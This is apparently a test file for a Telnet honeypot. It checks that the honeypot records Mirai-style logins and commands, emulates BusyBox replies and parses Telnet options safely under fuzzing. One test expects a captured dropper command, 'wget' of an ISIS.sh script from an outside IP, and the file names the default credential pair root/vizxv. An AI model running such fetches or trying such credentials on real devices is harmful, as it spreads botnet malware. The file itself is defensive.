// The Telnet reader and session on corpus bytes (a Mirai-style loader, NUL-laden credentials),
// option answers, and a property-based fuzz run over random and mutated bytes.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import type { Credential } from '../../events/event.js';
import { corpusBytes } from '../test-corpus.js';
import type { SessionContext } from '../types.js';
import { answerAsh } from './busybox.js';
import { MAX_SUBNEGOTIATION_BYTES, parseItem } from './parse.js';
import { TelnetSession } from './session.js';

interface FakeContext extends SessionContext {
  sent: Buffer[];
  ended: boolean;
  reason: string | undefined;
}

function fakeContext(greeted = true): FakeContext {
  const ctx: FakeContext = {
    transport: 'tcp', dstPort: 23, greeted, sent: [], ended: false, reason: undefined,
    fields: {}, credentials: [] as Credential[], commands: [],
    send: (bytes) => void ctx.sent.push(Buffer.from(bytes)),
    end: () => void (ctx.ended = true),
    malformed: (reason) => void (ctx.reason ??= reason),
  };
  return ctx;
}

function run(bytes: Buffer, greeted = true): FakeContext {
  const ctx = fakeContext(greeted);
  const session = new TelnetSession(ctx, Buffer.from('greeting'));
  session.data(bytes);
  session.close?.();
  return ctx;
}

describe('telnet session', () => {
  it('records the login and every command of a Mirai-style dropper', () => {
    const ctx = run(corpusBytes('telnet-mirai-login-gafgyt-dropper'));
    expect(ctx.credentials).toEqual([{ username: 'root', password: 'vizxv' }]);
    expect(ctx.commands[0]).toBe('sh');
    expect(ctx.commands[1]).toContain('wget http://198.51.100.170/ISIS.sh');
    expect(Buffer.concat(ctx.sent).toString('latin1')).toContain('built-in shell (ash)');
  });

  it('keeps NULs in credentials as \\x00 escapes, never cutting at them', () => {
    const ctx = run(corpusBytes('adv-nul-bytes-telnet-and-path'));
    expect(ctx.credentials[0]).toEqual({ username: 'root\\x00',
      password: '\\x00\\x00admin\\x00pass' });
  });

  it('sends its greeting itself when the client spoke first, and not twice', () => {
    expect(run(Buffer.from('root\r\n'), false).sent[0]?.toString()).toBe('greeting');
    expect(run(Buffer.from('root\r\n'), true).sent[0]?.toString()).not.toBe('greeting');
  });

  it('refuses options it does not do and records the window size', () => {
    const ctx = run(Buffer.from([0xff, 0xfb, 0x18, 0xff, 0xfd, 0x27, 0xff, 0xfb, 0x1f,
      0xff, 0xfa, 0x1f, 0, 80, 0, 24, 0xff, 0xf0]));
    expect(ctx.sent.map((b) => [...b])).toEqual([[0xff, 0xfe, 0x18], [0xff, 0xfc, 0x27]]);
    expect(ctx.fields['window']).toEqual({ cols: 80, rows: 24 });
  });

  it('asks for the login again on an empty line, as BusyBox login does', () => {
    const ctx = run(Buffer.from('\r\nroot\r\nvizxv\r\n'));
    expect(ctx.credentials).toEqual([{ username: 'root', password: 'vizxv' }]);
  });

  it('says Login incorrect and hangs up after three wrong passwords', () => {
    const ctx = run(Buffer.from('root\r\nx\r\nroot\r\ny\r\nroot\r\nz\r\nroot\r\n'));
    expect(ctx.credentials).toHaveLength(3);
    expect(ctx.ended).toBe(true);
  });

  it('answers the busybox applet probe Mirai sends', () => {
    expect(answerAsh('/bin/busybox ECCHI').output).toBe('ECCHI: applet not found\r\n');
    expect(answerAsh('enable').output).toBe('-sh: enable: not found\r\n');
    expect(answerAsh("echo -e '\\x41\\x4b\\x34\\x37'").output).toBe('AK47\r\n');
    expect(answerAsh('cat /proc/mounts').output).toContain('/dev/root / squashfs');
  });
});

describe('telnet reader', () => {
  it('marks an endless subnegotiation malformed past its bound', () => {
    const sb = Buffer.concat([Buffer.from([0xff, 0xfa, 0x18]),
      Buffer.alloc(MAX_SUBNEGOTIATION_BYTES + 8, 0x41)]);
    expect(parseItem(sb)).toEqual({ kind: 'malformed', reason: 'subnegotiation_too_long' });
  });

  it('reads IAC IAC as one 0xff data byte', () => {
    expect(parseItem(Buffer.from([0xff, 0xff]))).toMatchObject({ kind: 'message', length: 2,
      item: { type: 'data' } });
  });

  it('never throws and stays bounded on random and mutated bytes', () => {
    const base = corpusBytes('telnet-mirai-login-gafgyt-dropper');
    const mutated = fc.array(fc.tuple(fc.nat(base.length - 1), fc.constantFrom(0, 0xff, 0xfa,
      0xf0, 0x0d, 0x0a, 0x41)), { maxLength: 24 }).map((edits) => {
      const copy = Buffer.from(base);
      for (const [at, byte] of edits) copy[at] = byte;
      return copy;
    });
    const inputs = fc.oneof(fc.uint8Array({ maxLength: 4096 }).map((a) => Buffer.from(a)),
      mutated);
    fc.assert(fc.property(inputs, (bytes) => {
      const ctx = run(bytes);
      expect(ctx.commands.length).toBeLessThanOrEqual(256);
      expect(JSON.stringify(ctx.fields).length).toBeLessThan(16 * 1024);
    }), { numRuns: 500 });
  });
});
